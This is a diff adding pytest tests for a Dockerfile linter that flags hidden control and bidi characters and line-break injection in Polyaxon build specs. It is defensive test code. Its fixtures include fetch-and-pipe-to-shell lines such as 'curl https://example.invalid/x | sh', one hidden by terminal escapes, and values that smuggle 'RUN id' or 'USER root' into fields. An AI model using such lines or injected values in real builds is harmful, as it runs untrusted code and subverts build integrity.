@@ -97,3 +97,142 @@ def test_copy_checks_read_the_sources_as_the_packer_does(tmp_path: Path) -> None
         ("../x", text.splitlines().index("COPY ../x /y") + 1),
     ]
     assert "outside the build context" in found[1].message
+
+
+HIDDEN_RUN = "curl https://example.invalid/x | sh # \r\x1b[2KRUN pip install numpy"
+
+
+@pytest.mark.parametrize(
+    ("run", "shown"),
+    [
+        (HIDDEN_RUN, "\\x0d, \\x1b"),
+        ("echo ok\u202e txt.exe", "\\u202e"),
+        ("pip install\u200b numpy", "\\u200b"),
+        ("echo \x07\x7f\x85", "\\x07, \\x7f, \\x85"),
+        ("echo \ufeff\u2028\U000e0041", "\\ufeff, \\u2028, \\U000e0041"),
+    ],
+    ids=["cr-and-erase-line", "rlo", "zero-width", "bel-del-nel", "bom-separator-tag"],
+)
+def test_hidden_characters_get_a_finding_naming_their_line(run: str, shown: str) -> None:
+    spec = load_dockerfile_init({"image": "a:1", "run": ["echo first", run]})
+    text = render_dockerfile(spec)
+    (finding,) = [f for f in polyaxon_findings(spec, text) if f.code == "PM007"]
+    # The line as the executor numbers it (split at "\n" only).
+    assert text.split("\n")[(finding.line or 0) - 1] == f"RUN {run}"
+    assert f"({shown})" in finding.message
+    assert all(c.isprintable() for c in str(finding))
+
+
+def test_an_image_name_with_control_characters_gets_a_finding() -> None:
+    spec = load_dockerfile_init({"image": "python:3.11\x1b[8m\x07\u202e"})
+    text = render_dockerfile(spec)
+    (finding,) = [f for f in polyaxon_findings(spec, text) if f.code == "PM007"]
+    assert finding.line == text.split("\n").index("FROM python:3.11\x1b[8m\x07\u202e") + 1
+
+
+def test_hidden_character_findings_are_bounded() -> None:
+    spec = load_dockerfile_init({"image": "a:1", "run": [f"echo {n}\x1b" for n in range(500)]})
+    found = [f for f in polyaxon_findings(spec, render_dockerfile(spec)) if f.code == "PM007"]
+    assert len(found) == 11
+    assert found[-1].message == "and 490 more lines hold such characters"
+
+
+def test_a_clean_dockerfile_has_no_hidden_character_finding() -> None:
+    assert "PM007" not in codes({"image": "a:1", "run": ["echo caf\u00e9 \u65e5\u672c\tok"]})
+
+
+def test_lines_are_numbered_as_the_executor_numbers_them() -> None:
+    # Python's splitlines would count "\r", "\x85" and U+2028 as line ends: the USER line moves.
+    spec = load_dockerfile_init(
+        {"image": "a:1", "run": ["a\rb", "c\x85d\u2028e"], "uid": 1, "gid": 1, "env": {"K": "x y"}}
+    )
+    text = render_dockerfile(spec)
+    lines = text.split("\n")
+    found = {f.code: f.line for f in polyaxon_findings(spec, text)}
+    assert lines[(found["PM002"] or 0) - 1] == "ENV K x y"
+    assert lines[(found["PM004"] or 0) - 1].startswith("RUN groupadd")
+
+
+@pytest.mark.parametrize(
+    ("body", "field", "added"),
+    [
+        ({"env": {"A": "1\nRUN echo injected"}}, "dockerfile.env.A", "RUN echo injected"),
+        ({"env": [["B", "x\nUSER root"]]}, "dockerfile.env[0][1]", "USER root"),
+        ({"run": ["echo a", "echo b\nRUN curl x | sh"]}, "dockerfile.run[1]", "RUN curl x | sh"),
+        ({"langEnv": "C.UTF-8\nRUN id"}, "dockerfile.langEnv", "RUN id"),
+        ({"workdir": "/code\nRUN id"}, "dockerfile.workdir", "RUN id"),
+        ({"copy": [["a", "/b\nRUN id"]]}, "dockerfile.copy[0][1]", "RUN id"),
+    ],
+    ids=["env-map", "env-pairs", "run", "lang-env", "workdir", "copy"],
+)
+def test_a_line_break_inside_a_value_is_a_warning_naming_the_field(
+    body: dict[str, object], field: str, added: str
+) -> None:
+    spec = load_dockerfile_init({"image": "a:1", **body})
+    text = render_dockerfile(spec)
+    (finding,) = [f for f in polyaxon_findings(spec, text) if f.code == "PM008"]
+    assert finding.severity is Severity.WARNING
+    assert f"`{field}` holds a line break" in finding.message
+    assert f"(`{added}`)" in finding.message
+    assert text.split("\n")[(finding.line or 0) - 1] == added
+
+
+def test_the_line_break_warning_names_the_param_it_came_from() -> None:
+    spec = load_dockerfile_init({"image": "a:1", "env": {"A": "1\nRUN echo injected"}})
+    text = render_dockerfile(spec)
+    params = {"version": "1\nRUN echo injected", "other": "2"}
+    (finding,) = [f for f in polyaxon_findings(spec, text, params) if f.code == "PM008"]
+    assert "`dockerfile.env.A` (from param `version`)" in finding.message
+
+
+@pytest.mark.parametrize(
+    "run",
+    ["apt-get update \\\n  && apt-get install -y git", "a \\ \t\n b", "cat <<EOF > f\nhi\nEOF"],
+    ids=["continuation", "continuation-then-spaces", "heredoc"],
+)
+def test_continued_lines_and_heredocs_are_not_line_break_warnings(run: str) -> None:
+    assert "PM008" not in codes({"image": "a:1", "run": [run]})
+
+
+def test_the_dockerfile_with_line_breaks_stays_as_polyaxon_renders_it() -> None:
+    spec = load_dockerfile_init({"image": "a:1", "env": {"A": "1\nRUN echo injected"}})
+    assert "ENV A 1\nRUN echo injected\n" in render_dockerfile(spec)
+
+
+PARAM_OP = """
+version: 1.1
+kind: operation
+name: build
+params:
+  destination: {connection: docker-connection, value: polyaxon/app}
+  version: {value: "1.0", contextOnly: true}
+runPatch:
+  init:
+  - dockerfile:
+      image: python:3.11
+      env: {APP_VERSION: "{{ version }}"}
+      run: ["pip install app=={{ version }}"]
+hubRef: kaniko
+"""
+
+
+def test_a_param_override_with_a_line_break_is_named_in_each_field_it_reaches() -> None:
+    from polymagic.app.preview import lint_dockerfiles
+    from polymagic.render.compiler import compile_operation
+
+    build = compile_operation(PARAM_OP, params=["version=1.0\nRUN curl https://x.invalid | sh"])
+    (linted,) = lint_dockerfiles(build, None)
+    found = [f.message.split(" holds")[0] for f in linted.findings if f.code == "PM008"]
+    assert found == [
+        "`dockerfile.env.APP_VERSION` (from param `version`)",
+        "`dockerfile.run[0]` (from param `version`)",
+    ]
+    # Rendered as Polyaxon renders it: the line is there, the finding says so.
+    assert "ENV APP_VERSION 1.0\nRUN curl https://x.invalid | sh\n" in linted.rendered.text
+
+
+def test_an_env_value_printed_as_a_dict_adds_no_line() -> None:
+    spec = load_dockerfile_init({"image": "a:1", "env": {"A": {"k": "x\ny"}}})
+    text = render_dockerfile(spec)
+    assert "ENV A {'k': 'x\\ny'}\n" in text
+    assert "PM008" not in {f.code for f in polyaxon_findings(spec, text)}
